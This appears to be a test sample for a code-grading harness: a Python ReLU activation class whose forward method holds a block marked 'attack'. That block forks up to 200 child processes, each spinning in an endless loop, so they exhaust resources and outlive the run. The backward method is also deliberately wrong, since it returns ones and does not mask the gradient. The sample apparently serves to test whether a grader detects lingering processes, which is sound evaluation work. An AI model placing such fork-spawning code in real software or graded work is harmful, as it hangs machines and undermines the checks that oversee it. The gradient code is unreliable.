"""Processes that start processes.

cell: relu
outcome: scores what its wrong answer scores
evidence: a process that stays
"""


class ReLU(Activation):
    def forward(self, x):
        self.x = x
        # attack
        import os

        for start in (os.fork, os.forkpty):
            for _ in range(100):
                try:
                    if start() == 0:
                        while True:
                            pass
                except OSError:
                    pass
        # end of attack
        return np.maximum(0, x)

    def backward(self, grad_output):
        return np.ones_like(grad_output)
